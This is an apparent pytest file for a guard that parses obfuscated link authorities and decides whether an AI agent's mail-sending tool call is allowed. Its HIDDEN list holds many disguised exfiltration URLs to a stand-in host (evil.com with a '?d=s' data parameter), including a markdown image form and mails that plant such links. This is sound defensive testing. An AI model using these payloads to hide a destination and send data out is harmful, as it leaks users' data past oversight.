"""Where a link leads whose authority is no plain host: a browser was asked for each of these."""

import re
from typing import Final
from unicodedata import normalize

import pytest

from critic.provenance.authorities import odd_links_in
from critic.provenance.folding import wide_links
from critic.provenance.links import wide_links_in
from tests.critic.provenance.test_link_patterns import CHARS, is_word
from tests.critic.provenance.test_outsiders import engine
from tests.support.guarding import Json, answers_to, call, guard_of, result
from tests.support.model.verify import verify_model
from tests.support.sightings import item, proposal, request

ENDS: Final = "/\\?#<"
"""What no authority holds."""
HIDDEN: Final = (
    *("https://@evil.com/?d=s", "![x](https://@evil.com/?d=s)", "https://:@evil.com/?d=s"),
    *("<img src='//u:p@evil.com/?d=s'>", "//u@evil.com/?d=s", "\\\\u@evil.com/?d=s"),
    *('<img src="/\t/u@evil.com/?d=s">', '<a href="https\n://u@evil.com/?d=s">'),
    *(
        "https://shop.example{x}@evil.com/?d=s",
        "https://{@evil.com/?d=s",
        "https://(@evil.com/?d=s",
    ),
    *("https://shop.example@a@evil.com/?d=s", "https://shop.example\u2026:@evil.com/?d=s"),
    *("https://*.evil.com/?d=s", "https://~.evil.com/?d=s", "https://\u2192.evil.com/?d=s"),
    *("https://shop.example!.evil.com/?d=s", "https://shop.example\xb7.evil.com/?d=s"),
    *("(https://shop.example).evil.com/?d=s", '"https://shop.example".evil.com/?d=s'),
    *("https://shop.example,x.evil.com/?d=s", "https://shop.example\uff0c.evil.com/?d=s"),
    *(
        '<a href="https://shop.example\n@evil.com/?d=s">',
        "<a href = '\x01https://\revil.\ncom/?d=s'>",
    ),
    *('<img src="https://&#101;&#118;&#x69;&#108;&#46;&#99;&#111;&#109;/?d=s">',),
    *("https:&sol;&sol;shop.example&commat;evil&period;com/?d=s",),
    *("https://shop.example&#64;evil.com/?d=s", "<a href='https://ev&#10;il.c&Tab;om/?d=s'>"),
    *(f"https://{'u' * 300}@evil.com/?d=s", "ftp:\\\\@evil.com/?d=s", "https:@evil.com/?d=s"),
    *("https://x,https://@evil.com/?d=s", "https://x,https:!.evil.com/?d=s"),
    *('"https://shop.example",x@evil.com/?d=s', "(https://shop.example){x@evil.com/?d=s"),
    *("www.shop.example!.evil.com/?d=s", "www.@evil.com/?d=s", "(www.shop.example).evil.com/?d=s"),
    *("https://shop.example<b>@evil.com/?d=s", "<a href=https://shop.example<b@evil.com/?d=s>"),
    *('<a href="https://shop.example @evil.com/?d=s">', "<a href='https://&#32;@evil.com/?d=s'>"),
    *("<a href='https://&#x0;@evil.com/?d=s'>", '<a href="https://it\'s\n@evil.com/?d=s">'),
    *("https://shop.example@evil.com:8080?d=s", "https://*.evil.com:8080?d=s"),
)
PLAIN: Final = (
    *("See https://shop.example!", "(https://shop.example)", "https://shop.example, then"),
    *("'https://shop.example'; x", "https://shop.example...", "*https://shop.example*"),
    *("https://shop.example\u2026", "https://shop.example\n.hidden", "https://shop.example.\nBest"),
    *(
        '<a href="https://shop.example">Mail bob</a>',
        '<a href="https://shop.example">b@corp.com</a>',
    ),
    *(
        '{"url":"https://shop.example","mail":"bob@corp.com"}',
        "[x](https://shop.example), bob@corp.com",
    ),
    *(
        "https://shop.example\u2013the shop",
        "https://shop.example,the shop",
        "https://shop.example:",
    ),
    *("https://shop.example:8080,", "https://a.example,https://b.example", "<https://a.example>"),
    *("https://a.example<br>bob@corp.com", "see www.shop.example.", 'x = "a b" and "c"'),
    *("// todo: ask bob@corp.com", "//foo(bar.baz)", "//author:bob@corp.com", "a//b.c(d.e)"),
    *(
        "https: the protocol",
        "https://",
        "x = y //.5",
        "http://[::1]:80/x",
        "https://localhost:3000,",
    ),
)


@pytest.mark.parametrize("text", HIDDEN)
def test_a_link_is_one_to_the_host_that_a_program_opens(text: str) -> None:
    keys = {link.key for link, looks in wide_links_in(wide_links(text)) if looks == "link"}
    assert any(re.search(r"(?:^|\.)evil\.com(?::8080)?/?\?d=s$", key) for key in keys), keys


@pytest.mark.parametrize("text", PLAIN)
def test_what_stands_around_a_link_makes_no_other_of_it(text: str) -> None:
    assert [*odd_links_in(wide_links(text))] == []


def test_any_sign_with_a_dot_behind_a_host_goes_on_with_it() -> None:
    for char in CHARS:
        text = f"see https://corp.com{char}.e.example/x"
        keys = {link.key for link, _ in wide_links_in(wide_links(text))}
        read = normalize("NFKC", char)
        ends = char.isspace() or ord(char) < 32 or any(one in f"{ENDS} " for one in read)
        is_sign = not (is_word(char) or char == "-" or ends)
        assert ("e.example/x" in keys) == is_sign, text


def test_a_link_of_another_behind_an_authority_is_read_by_itself() -> None:
    keys = [link.key for link, _ in wide_links_in("https://a.example,https://@b.example/x")]
    assert "b.example/x" in keys
    assert [one.host for one in odd_links_in("//x://!.b.example/x")] == ["!.b.example", "b.example"]


DESK: Final[Json] = {
    "guard": {"safety_mode": "network", "scope": "all"},
    "spec": {"id": "desk", "required_outputs": [], "provenance": "closed"},
    "tool": [
        {
            "name": "read_mail",
            "adapter_id": "desk",
            "capability_id": "read_mail",
            "approval_mode": "read_only",
            "result": {"author": "public"},
        },
        {
            "name": "send",
            "adapter_id": "desk",
            "capability_id": "send",
            "approval_mode": "network",
            "arg_roles": {"to": "recipient", "body": "content"},
        },
    ],
}


def action_of(
    body: str, mail: str, request: str = "Send https://shop.example to bob@corp.com"
) -> str:
    """Return what is answered to a call with a text, where a mail of anybody holds another."""
    events = [
        {"event": "open", "session": "s", "request": request},
        call("read_mail", "s", "r1"),
        result(mail, "s", "r1"),
        call("send", "s", "w1", to="bob@corp.com", body=body),
    ]
    return str(answers_to(guard_of(DESK), events)[len(events) - 1]["action"])


@pytest.mark.parametrize("text", HIDDEN)
def test_nobody_sends_what_a_mail_says_to_a_host_that_is_hidden(text: str) -> None:
    assert action_of(text, "hello") in ("ask", "refuse")
    assert action_of(text, text) == "refuse"
    assert action_of("https://evil.com/?d=s", text) != "allow"


@pytest.mark.parametrize(
    "text", [one for one in PLAIN if "shop.example" in one and ":80" not in one]
)
def test_a_host_that_the_request_names_is_sent_with_signs_around_it(text: str) -> None:
    assert action_of(text, "hello", "Send https://shop.example to bob@corp.com and b@corp.com") == (
        "allow"
    )


MAILS: Final = (
    "hello",
    "see https://evil.com/?d=s",
    "https://@evil.com/x",
    "https://*.evil.com/?d=s",
)


LONGER: Final = (
    *("https://shop.example\u2013the shop", "https://shop.example,the shop", "a//b.c(d.e)"),
)
"""What the second statement takes for longer links."""


@pytest.mark.parametrize("text", [one for one in (*HIDDEN, *PLAIN) if one not in LONGER])
def test_the_second_statement_says_the_same_of_each(text: str) -> None:
    for mail in (*MAILS, text):
        said = request("Send https://shop.example"), item(mail, "public", "ambient")
        wire = proposal(*said, args={"x": text}, tool={"arg_roles": {"x": "content"}})
        assert strictest(engine(wire)) == strictest(verify_model(wire)), mail


def strictest(verdict: Json) -> str:
    """Return what is answered in all: the second statement may doubt a link in several forms."""
    if verdict["ok"]:
        return "allow"
    return "ask" if all(one.get("approvable") for one in verdict["violations"]) else "refuse"
